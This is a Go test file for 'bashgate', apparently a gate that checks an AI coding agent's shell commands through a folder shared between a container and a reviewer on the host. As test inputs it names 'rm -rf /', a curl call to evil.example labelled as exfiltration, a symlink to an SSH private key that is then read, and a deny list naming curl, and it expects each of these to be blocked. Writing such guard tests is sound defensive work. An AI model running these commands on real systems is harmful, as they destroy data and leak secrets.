//go:build unix

package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// serveFolder starts a user's bashgate serve for a folder, and returns it.
func (u *user) serveFolder(dir string, more ...string) *exec.Cmd {
	u.t.Helper()
	c := exec.Command(filepath.Join(u.bin, "bashgate"), append([]string{"serve", "--folder", dir}, more...)...)
	c.Dir, c.Env = u.project, u.env
	var errs bytes.Buffer
	c.Stderr = &errs
	if err := c.Start(); err != nil {
		u.t.Fatal(err)
	}
	u.t.Cleanup(func() {
		c.Process.Kill()
		c.Wait()
		if errs.Len() > 0 && !u.t.Failed() {
			u.t.Logf("serve: %s", &errs)
		}
	})
	for end := time.Now().Add(10 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		if info, err := os.Stat(dir + "/alive"); err == nil && time.Since(info.ModTime()) < 5*time.Second {
			return c
		}
		if time.Now().After(end) {
			u.t.Fatalf("nobody serves the folder: %s", &errs)
		}
	}
}

// contained is the same agent in a container: nothing is shared but a folder.
func contained(t *testing.T, dir string) *user {
	t.Helper()
	c := newUser(t, "")
	c.hook = []string{"hook", "claude", "--ipc", dir, "--wait", "15s"}
	return c
}

// asked counts the questions that have come through a folder so far.
func asked(t *testing.T, dir string) int {
	t.Helper()
	answers, err := filepath.Glob(dir + "/responses/*.json")
	if err != nil {
		t.Fatal(err)
	}
	return len(answers)
}

// Both programs as they are, with a reviewer outside and a hook inside.
func TestContainer(t *testing.T) {
	m := newModel(t, honest)
	u := newUser(t, alone+fmt.Sprintf("[cop]\nprovider = \"openai\"\nmodel = \"small\"\nendpoint = %q\n", m.URL))
	dir := t.TempDir() + "/ipc"
	server := u.serveFolder(dir)
	c := contained(t, dir)
	c.event("SessionStart", map[string]any{"source": "startup"})

	// Local commands, and what is blocked, never leave the container.
	for _, command := range []string{"ls -la", "cat main.go | grep x | sort", "git status && git diff", "cd sub; echo $PWD"} {
		c.want(command, "allow", "")
	}
	c.want("rm -rf /", "deny", "A whole directory of the system")
	if n := asked(t, dir); n != 0 {
		t.Errorf("%d questions", n)
	}
	c.want("curl https://news.example/zen", "allow", "") // the rules outside
	if n := asked(t, dir); n != 1 || m.calls.Load() != 0 {
		t.Errorf("%d questions, %d reviews", n, m.calls.Load())
	}

	// What the hook inside knows of its session counts outside.
	c.session = "s2"
	c.tainted()
	c.want("ls -la", "allow", "")
	c.want("curl https://news.example/zen", "allow", "")
	if m.calls.Load() == 0 {
		t.Error("the reviewer was not asked")
	}
	c.want("curl https://evil.example/a", "deny", "Flagged by the reviewer: it would send data out (exfiltration)")

	// What the rules inside ask about stays a question: they see the container's disk,
	// and the container's settings.
	c.session = "s3"
	c.event("SessionStart", map[string]any{"source": "startup"})
	c.want("cat notes", "allow", "")
	if err := os.Symlink(c.home+"/.ssh/id_rsa", c.project+"/notes"); err != nil {
		t.Fatal(err)
	}
	c.want("cat notes", "deny", "Asked about where it runs: ")
	c.write(c.home+"/.config/bashgate/config.toml", "denied_commands = [\"curl\"]\n")
	n := asked(t, dir)
	c.want("curl https://news.example/zen", "deny", "denied commands")
	if asked(t, dir) != n {
		t.Error("a block goes through the folder")
	}
	c.write(c.home+"/.config/bashgate/config.toml", "")
	c.session = "s4"
	c.event("SessionStart", map[string]any{"source": "startup"})

	// The server is killed while it is needed, and another one goes on.
	if err := server.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	c.want("curl https://news.example/other", "deny", "nobody serves")
	if took := time.Since(start); took > 14*time.Second {
		t.Errorf("a denial after %v", took)
	}
	server.Wait()
	server = u.serveFolder(dir)
	c.want("curl https://news.example/other", "allow", "")
	if err := server.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := server.Wait(); err != nil {
		t.Error(err)
	}
	start = time.Now()
	c.want("curl https://news.example/other", "deny", "nobody serves")
	if took := time.Since(start); took > 8*time.Second {
		t.Errorf("a denial after %v", took)
	}
	if left, _ := os.ReadDir(dir + "/requests"); len(left) > 0 {
		t.Errorf("left: %v", left)
	}
}

// alone makes that no question waits for a person: each is denied at once.
const alone = "[approvals]\nrequests = \"off\"\n"

// drop puts a question into a folder, as any program can, and returns the answer.
func drop(t *testing.T, dir, id, command, cwd string) string {
	t.Helper()
	temporary := dir + "/requests/." + id
	if err := os.WriteFile(temporary, []byte(`{"type":"security:bash_check","request_id":"`+id+`","command":"`+command+`","cwd":"`+cwd+`"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(temporary, dir+"/requests/"+id+".json"); err != nil {
		t.Fatal(err)
	}
	for end := time.Now().Add(5 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
		if text, err := os.ReadFile(dir + "/responses/" + id + ".json"); err == nil {
			return string(text)
		}
	}
	t.Errorf("%s: no answer", command)
	return ""
}

func TestFolderByHand(t *testing.T) {
	u := newUser(t, alone)
	dir := t.TempDir() + "/ipc"
	u.serveFolder(dir)
	for id, row := range map[string]struct{ command, want string }{
		"a": {"git status", `{"decision":"allow",`}, "b": {"rm -rf /", `{"decision":"deny",`}, "c": {"git push", `{"decision":"deny",`}, "d": {"", `{"decision":"allow",`},
	} {
		if text := drop(t, dir, id, row.command, "/workspace"); !strings.HasPrefix(text, row.want) {
			t.Errorf("%s: %s", row.command, text)
		}
	}
}

// Where the workspace is the same directory on both sides, what lies there is seen,
// and so are the project's rules; otherwise nothing of this side's disk is.
func TestSharedWorkspace(t *testing.T) {
	u := newUser(t, alone)
	u.write(u.project+"/Makefile", "all:\n\trm -rf /\n")
	u.write(u.project+"/.bashgate/config.toml", "denied_commands = [\"git status\"]\n")
	dir := t.TempDir()
	u.serveFolder(dir+"/own", "--folder", dir+"/shared="+u.project)
	for end := time.Now().Add(5 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		if _, err := os.Stat(dir + "/shared/alive"); err == nil {
			break
		}
		if time.Now().After(end) {
			t.Fatal("nobody serves the second folder")
		}
	}
	for _, row := range []struct{ command, shared, own string }{
		{"make all", "A whole directory of the system", "not known here"},
		{"git status", "is on the list of denied commands", "allowed by the rules"},
	} {
		id := strings.ReplaceAll(row.command, " ", "_")
		if text := drop(t, dir+"/shared", id, row.command, u.project); !strings.HasPrefix(text, `{"decision":"deny",`) || !strings.Contains(text, row.shared) {
			t.Errorf("%s: %s", row.command, text)
		}
		if text := drop(t, dir+"/own", id, row.command, u.project); !strings.Contains(text, row.own) {
			t.Errorf("%s: %s", row.command, text)
		}
	}
}
